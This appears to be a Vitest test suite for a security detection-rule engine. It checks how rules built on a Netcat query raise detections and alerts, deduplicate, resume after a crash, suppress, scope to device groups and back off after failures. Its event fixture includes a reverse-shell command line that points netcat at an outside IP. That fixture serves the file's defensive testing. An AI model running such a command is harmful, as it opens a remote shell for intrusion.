import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runRule } from '../../src/detection/rule-run.ts';
import { findAlert } from '../../src/store/alerts.ts';
import { type DeviceGroupRule, insertDeviceGroup } from '../../src/store/device-groups.ts';
import { findRule } from '../../src/store/rules.ts';
import { insertTenant } from '../../src/store/tenants.ts';
import { startRoom, TENANT, type TestRoom } from './room.ts';

const HOUR_MS = 3_600_000;

let test: TestRoom;
let eventId = 0;
beforeAll(async () => {
  test = await startRoom();
});
afterAll(() => test?.close());

function event(fields: Readonly<Record<string, unknown>> = {}): object {
  eventId++;
  return {
    Timestamp: '2020-09-30T14:09:20.1234567Z',
    DeviceId: 'dev1',
    DeviceName: 'lab-07.example.org',
    ActionType: 'ProcessCreated',
    ReportId: eventId,
    FileName: 'nc64.exe',
    FolderPath: 'C:\\Tools\\nc64.exe',
    SHA1: '9c1185a5c5e9fc54612808977ee8f548b2258d31',
    ProcessId: 6120,
    ProcessCommandLine: 'nc64.exe -e cmd.exe 203.0.113.9 4444',
    AccountName: 'kim',
    AccountDomain: 'EXAMPLE',
    AccountSid: 'S-1-5-21-1',
    InitiatingProcessFileName: 'cmd.exe',
    ...fields,
  };
}

let tenants = 0;
/** A tenant for each test: what one finds is not the other's. */
function tenant(): string {
  return `00000000-0000-4000-8000-${String(++tenants).padStart(12, '0')}`;
}

const FORM = {
  name: 'netcat',
  title: 'Netcat on {{DeviceName}}',
  description: 'by {{AccountName}}',
  severity: 'Medium',
  category: 'CommandAndControl',
  techniques: ['T1095'],
  frequency: 'continuous',
  query: 'DeviceProcessEvents | where FileName == "nc64.exe"',
  entities: { device: 'DeviceId', user: 'AccountSid' },
};

describe('a continuous rule', () => {
  it('makes a detection with the facts of the row and of its device', async () => {
    const t = tenant();
    await test.deliver(
      'DeviceInfo',
      [
        {
          Timestamp: '2020-09-01T00:00:00Z',
          DeviceId: 'dev1',
          DeviceName: 'lab-07.example.org',
          MachineGroup: 'Labs',
          RegistryDeviceTag: 'lab',
          DeviceManualTags: '["vip"]',
          LoggedOnUsers: '[{"UserName":"kim","DomainName":"EXAMPLE"}]',
        },
      ],
      t,
    );
    await test.deliver(
      'DeviceNetworkInfo',
      [
        {
          Timestamp: '2020-09-01T00:00:00Z',
          DeviceId: 'dev1',
          NetworkAdapterName: 'a',
          IPAddresses: '[{"IPAddress":"10.20.30.7"},{"IPAddress":"fe80::1"}]',
        },
      ],
      t,
    );
    await test.save(FORM, t);
    await test.deliver('DeviceProcessEvents', [event()], t);
    expect(await test.run('netcat', t)).toMatchObject({
      outcome: 'completed',
      counts: { rows: 1, detections: 1, alerts: 1 },
    });
    const [detection] = await test.pulled(t);
    expect(detection).toMatchObject({
      AlertTime: '2020-09-30T14:09:20.1234567Z',
      ComputerDnsName: 'lab-07.example.org',
      AlertTitle: 'Netcat on lab-07.example.org',
      Category: 'CommandAndControl',
      Severity: 'Medium',
      Sha1: '9c1185a5c5e9fc54612808977ee8f548b2258d31',
      FileName: 'nc64.exe',
      FilePath: 'C:\\Tools',
      UserName: 'kim',
      UserDomain: 'EXAMPLE',
      Source: 'EDR',
      LogOnUsers: 'EXAMPLE\\kim',
      MachineDomain: 'example.org',
      MachineName: 'lab-07',
      InternalIPv4List: '10.20.30.7',
      InternalIPv6List: 'fe80::1',
      DeviceID: 'dev1',
      MachineGroup: 'Labs',
      Description: 'by kim',
      DeviceCreatedMachineTags: 'lab',
      CloudCreatedMachineTags: 'vip',
      CommandLine: 'nc64.exe -e cmd.exe 203.0.113.9 4444',
    });
    const id = String(detection?.['AlertId']);
    expect(id).toMatch(/^da\d{18}_-?\d+$/);
    expect(detection?.['FullId']).toBe(`${id}:${detection?.['IocUniqueId']}`);
    expect(detection?.['ExternalId']).toMatch(/^[0-9A-F]{40}$/);
    expect(detection?.['LinkToWDATP']).toBe(`http://spoor.example/alert/${id}`);
    expect(detection?.['IoaDefinitionId']).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-/,
    );
  });

  it('sees each event once, merges those that are alike, and never one twice', async () => {
    const t = tenant();
    await test.save(FORM, t);
    await test.deliver('DeviceProcessEvents', [event(), event(), event({ DeviceId: 'dev2' })], t);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 3, detections: 3, alerts: 2 });
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 0 });
    await test.deliver('DeviceProcessEvents', [event(), event({ FileName: 'other.exe' })], t);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 1, detections: 1, alerts: 0 });
    const [newest] = await test.pulled(t);
    const alert = await findAlert(test.store.db, t, String(newest?.['AlertId']));
    expect(alert?.detections).toBe(3);
  });

  it('records nothing twice when its run is run again from the same place', async () => {
    const t = tenant();
    await test.save(FORM, t);
    await test.deliver('DeviceProcessEvents', [event(), event()], t);
    const stored = await findRule(test.store.db, t, 'netcat');
    await test.run('netcat', t);
    await test.store.db
      .updateTable('rules')
      .set({ arrival: stored?.arrival ?? 0, covered_until: null })
      .where('tenant', '=', t)
      .execute();
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 2, detections: 0, alerts: 0 });
    expect(await test.pulled(t)).toHaveLength(2);
  });

  it.each(['summarize arg_max(Timestamp, *) by DeviceId, ReportId', 'top 1 by Timestamp'])(
    'may not judge several events together: %s',
    async (operator) => {
      const query = `${FORM.query} | ${operator}`;
      await expect(test.save({ ...FORM, query }, tenant())).rejects.toMatchObject({
        code: 'RuleRefused',
        message: expect.stringContaining('NotContinuous'),
      });
    },
  );
});

describe('a run that ends in the middle', () => {
  it.each(['queried', 'recorded'] as const)(
    'after `%s` is run again, and nothing is missed or doubled',
    async (step) => {
      const t = tenant();
      await test.save(FORM, t);
      const ids = Array.from({ length: 450 }, (_, i) => `nc64.exe ${i}`);
      await test.deliver(
        'DeviceProcessEvents',
        ids.map((ProcessCommandLine) => event({ ProcessCommandLine })),
        t,
      );
      const stored = await findRule(test.store.db, t, 'netcat');
      if (stored === undefined) throw new Error('no rule');
      // What a killed server would have written of its failure is not written either.
      const power = new AbortController();
      const cut = {
        ...test.room.runParts,
        at: async (reached: string) => {
          if (reached !== step) return;
          power.abort();
          throw new Error('the power is cut');
        },
      };
      expect((await runRule(cut, stored, power.signal)).outcome).toBe('failed');
      expect(await test.pulled(t)).toHaveLength(step === 'queried' ? 0 : 200);
      expect(await findRule(test.store.db, t, 'netcat')).toEqual(stored);
      expect((await test.run('netcat', t)).outcome).toBe('completed');
      const found = (await test.pulled(t)).map((each) => String(each['CommandLine']));
      expect(found.sort()).toEqual(ids.sort());
      const [newest] = await test.pulled(t);
      expect(await findAlert(test.store.db, t, String(newest?.['AlertId']))).toMatchObject({
        detections: 450,
      });
    },
  );
});

describe('a scheduled rule', () => {
  it('finds an old event that arrives late, and nothing twice within its look-back', async () => {
    const t = tenant();
    const form = {
      ...FORM,
      frequency: '1h',
      query: `${FORM.query} | summarize (Timestamp, ReportId) = arg_max(Timestamp, ReportId), n = count()
        by DeviceId, AccountSid, DeviceName, AccountName`,
    };
    await test.save(form, t);
    await test.deliver('DeviceProcessEvents', [event()], t);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 1, detections: 1 });
    test.clock.set(test.clock.nowMs() + HOUR_MS);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 1, detections: 0 });
    test.clock.set(test.clock.nowMs() + 4 * HOUR_MS);
    await test.deliver('DeviceProcessEvents', [event({ Timestamp: '2019-01-01T00:00:00Z' })], t);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 1, detections: 1 });
  });
});

describe('the limits of a rule', () => {
  it('drop alerts over the cap, and the run says so', async () => {
    const t = tenant();
    await test.save({ ...FORM, maxAlerts: 2 }, t);
    const devices = ['a', 'b', 'c', 'a'];
    await test.deliver(
      'DeviceProcessEvents',
      devices.map((DeviceId) => event({ DeviceId })),
      t,
    );
    expect(await test.run('netcat', t)).toMatchObject({
      outcome: 'flooded',
      counts: { alerts: 2, dropped: expect.any(Number) },
    });
  });

  it('suppress what is alike for a time', async () => {
    const t = tenant();
    await test.save({ ...FORM, suppression: { for: '6h', by: ['device'] } }, t);
    const users = (AccountSid: string) => test.deliver('DeviceProcessEvents', [event({ AccountSid })], t);
    await users('S-1');
    expect((await test.run('netcat', t)).counts).toMatchObject({ alerts: 1, suppressed: 0 });
    await users('S-2');
    expect((await test.run('netcat', t)).counts).toMatchObject({ alerts: 0, suppressed: 1 });
    test.clock.set(test.clock.nowMs() + 7 * HOUR_MS);
    await users('S-3');
    expect((await test.run('netcat', t)).counts).toMatchObject({ alerts: 1, suppressed: 0 });
  });

  it('keep it to its device groups', async () => {
    const t = tenant();
    const info = (DeviceId: string, MachineGroup: string) => ({
      Timestamp: '2020-01-01',
      DeviceId,
      MachineGroup,
    });
    await test.deliver('DeviceInfo', [info('in', 'Labs'), info('out', 'Office')], t);
    await test.save({ ...FORM, deviceGroups: ['labs'] }, t);
    await test.deliver('DeviceProcessEvents', [event({ DeviceId: 'in' }), event({ DeviceId: 'out' })], t);
    expect((await test.run('netcat', t)).counts).toMatchObject({ rows: 2, detections: 1 });
  });

  it('knows the device groups of the directory, and refuses a name that nobody knows', async () => {
    const t = tenant();
    await insertTenant(test.store.db, { id: t, name: t, domain: undefined }, new Date());
    const group = async (rank: number, name: string, rule: DeviceGroupRule) => {
      const id = `00000000-0000-4000-9000-00000000000${rank}`;
      await insertDeviceGroup(test.store.db, { id, tenant: t, name, rank, rules: [rule] }, new Date());
    };
    await group(1, 'Servers', { property: 'name', operator: 'startsWith', value: 'SRV' });
    await group(2, 'Important', { property: 'tag', operator: 'equals', value: 'vip' });
    const info = (DeviceId: string, MachineGroup: string, tags: readonly string[]) => ({
      Timestamp: '2020-01-01',
      DeviceId,
      DeviceName: `${DeviceId}.example.org`,
      MachineGroup,
      DeviceManualTags: JSON.stringify(tags),
    });
    const devices = [info('srv1', 'Labs', ['vip']), info('pc2', '', ['VIP']), info('pc3', 'Labs', [])];
    await test.deliver('DeviceInfo', devices, t);
    const wanted = { servers: ['srv1'], important: ['pc2'], labs: ['pc3', 'srv1'] };
    for (const name of Object.keys(wanted)) await test.save({ ...FORM, name, deviceGroups: [name] }, t);
    const ids = ['srv1', 'pc2', 'pc3', 'pc4'];
    await test.deliver(
      'DeviceProcessEvents',
      ids.map((DeviceId) => event({ DeviceId })),
      t,
    );
    for (const name of Object.keys(wanted)) await test.run(name, t);
    const alerts = await test.store.db.selectFrom('alerts').selectAll().where('tenant', '=', t).execute();
    for (const [name, expected] of Object.entries(wanted)) {
      const own = alerts.filter(({ rule }) => rule === name).map(({ device }) => device);
      expect(own.sort(), name).toEqual(expected);
    }
    const shown = (await test.pulled(t)).map((each) => `${each['DeviceID']} ${each['MachineGroup']}`);
    expect(new Set(shown)).toEqual(new Set(['srv1 Servers', 'pc2 Important', 'pc3 Labs']));
    const unknown = test.save({ ...FORM, deviceGroups: ['servers', 'Nowhere'] }, t);
    await expect(unknown).rejects.toMatchObject({
      code: 'RuleRefused',
      message: expect.stringMatching(/^UnknownDeviceGroup[^;]*Nowhere[^;]*$/),
    });
  });
});

describe('a rule whose query fails', () => {
  it('is shown, waits longer each time, and is switched off at last', async () => {
    const t = tenant();
    await test.deliver('DeviceProcessEvents', [event()], t);
    await test.save({ ...FORM, query: `${FORM.query} | extend n = ReportId` }, t);
    // As if the language had changed under a stored rule.
    const form = JSON.stringify({ ...FORM, query: 'DeviceProcessEvents | where Nme == 1' });
    await test.store.db.updateTable('rules').set({ form }).where('tenant', '=', t).execute();
    const waits: number[] = [];
    for (let i = 0; i < 10; i++) {
      expect(await test.run('netcat', t)).toMatchObject({ outcome: 'failed', errorCode: 'BadRequest' });
      const stored = await findRule(test.store.db, t, 'netcat');
      waits.push(Date.parse(stored?.next_run ?? '') - test.clock.nowMs());
    }
    expect(waits.slice(0, 3)).toEqual([30_000, 60_000, 120_000]);
    expect(Math.max(...waits)).toBe(HOUR_MS);
    expect((await findRule(test.store.db, t, 'netcat'))?.switched_off).toBe(1);
    const [last] = await test.room.rules.runs(t, 'netcat', 1);
    expect(last).toMatchObject({ outcome: 'failed', error_code: 'BadRequest' });
    const broken = { ...FORM, query: 'DeviceProcessEvents | where Nme == 1' };
    await expect(test.save(broken, t)).rejects.toMatchObject({ code: 'RuleRefused' });
    await test.save({ ...broken, enabled: false }, t);
    expect((await findRule(test.store.db, t, 'netcat'))?.enabled).toBe(0);
  });
});

describe('alerts', () => {
  it('of one device are one incident, whether a rule maps its id or its name', async () => {
    const t = tenant();
    await test.save({ ...FORM, entities: { device: 'DeviceId' } }, t);
    await test.save({ ...FORM, name: 'by-name', entities: { device: 'DeviceName' } }, t);
    const query = `${FORM.query} | extend Host = tostring(split(toupper(DeviceName), '.')[0])`;
    await test.save({ ...FORM, name: 'by-host', query, entities: { device: 'Host' } }, t);
    await test.deliver('DeviceProcessEvents', [event()], t);
    for (const name of ['netcat', 'by-name', 'by-host']) {
      expect((await test.run(name, t)).counts, name).toMatchObject({ alerts: 1 });
    }
    const alerts = await test.store.db.selectFrom('alerts').selectAll().where('tenant', '=', t).execute();
    expect(alerts.map(({ device }) => device)).toEqual(['dev1', 'dev1', 'dev1']);
    expect(new Set(alerts.map(({ incident }) => incident)).size).toBe(1);
  });

  it('that share an asset are one incident, also when a third ties two together', async () => {
    const t = tenant();
    await test.save(FORM, t);
    const incidents = async () =>
      (await test.store.db.selectFrom('alerts').select('incident').where('tenant', '=', t).execute()).map(
        ({ incident }) => Number(incident),
      );
    const deliver = async (DeviceId: string, AccountSid: string) => {
      await test.deliver('DeviceProcessEvents', [event({ DeviceId, AccountSid })], t);
      await test.run('netcat', t);
    };
    await deliver('d1', 'u1');
    await deliver('d2', 'u2');
    expect(new Set(await incidents()).size).toBe(2);
    await deliver('d1', 'u2');
    expect(new Set(await incidents())).toEqual(new Set([1]));
  });

  it('are rows of AlertInfo and AlertEvidence, once', async () => {
    const t = TENANT;
    await test.save(FORM, t);
    await test.deliver('DeviceProcessEvents', [event()], t);
    await test.run('netcat', t);
    await test.room.publisher.flush();
    await test.room.publisher.flush();
    const rows = async (query: string) => {
      const result = await test.room.runParts.query({ tenant: t, query, nowMs: test.clock.nowMs() });
      const names = result.columns.map(({ name }) => name);
      const all: Record<string, string>[] = [];
      for await (const batch of result.batches) {
        for (const row of batch) all.push(Object.fromEntries(names.map((name) => [name, row.text(name)])));
      }
      return all;
    };
    expect(await rows('AlertInfo | project Title, Severity, AttackTechniques')).toEqual([
      { Title: 'Netcat on lab-07.example.org', Severity: 'Medium', AttackTechniques: '["T1095"]' },
    ]);
    expect(await rows('AlertEvidence | project EntityType | sort by EntityType asc')).toEqual([
      { EntityType: 'Machine' },
      { EntityType: 'Process' },
      { EntityType: 'User' },
    ]);
  });
});

describe('an alert by reference', () => {
  it('is raised for an event that is there, and takes the next with its title in', async () => {
    const t = tenant();
    await test.deliver('DeviceProcessEvents', [event({ ReportId: 4711 }), event({ ReportId: 4712 })], t);
    const reference = {
      tenant: t,
      machineId: 'dev1',
      eventTime: '2020-09-30T14:09:20.1234567Z',
      reportId: '4711',
      title: 'Seen by {{hand}}',
      description: 'd',
      recommendedAction: 'r',
      severity: 'high',
      category: 'Malware',
    };
    const id = await test.room.alertByReference(reference);
    expect(await test.room.alertByReference(reference)).toBe(id);
    expect(await test.room.alertByReference({ ...reference, reportId: '4712' })).toBe(id);
    expect(await findAlert(test.store.db, t, id)).toMatchObject({ severity: 'High', detections: 2 });
    await expect(test.room.alertByReference({ ...reference, reportId: '1' })).rejects.toMatchObject({
      code: 'ResourceNotFound',
    });
    await expect(test.room.alertByReference({ ...reference, severity: 'Huge' })).rejects.toMatchObject({
      code: 'InvalidInput',
    });
  });
});

describe('the scheduler', () => {
  it('runs what is due, and one that fails does not hold the others', async () => {
    const t = tenant();
    for (const name of ['first', 'broken', 'last']) await test.save({ ...FORM, name }, t);
    const form = JSON.stringify({ ...FORM, name: 'broken', query: 'DeviceProcessEvents | where Nme == 1' });
    await test.store.db
      .updateTable('rules')
      .set({ form })
      .where('tenant', '=', t)
      .where('name', '=', 'broken')
      .execute();
    await test.deliver('DeviceProcessEvents', [event()], t);
    test.room.start();
    await vi.waitFor(
      async () => {
        const outcomes = await Promise.all(
          ['first', 'broken', 'last'].map(
            async (name) => (await test.room.rules.runs(t, name, 1))[0]?.outcome,
          ),
        );
        expect(outcomes).toEqual(['completed', 'failed', 'completed']);
      },
      { timeout: 20_000, interval: 100 },
    );
    expect(await test.pulled(t)).toHaveLength(2);
  });
});
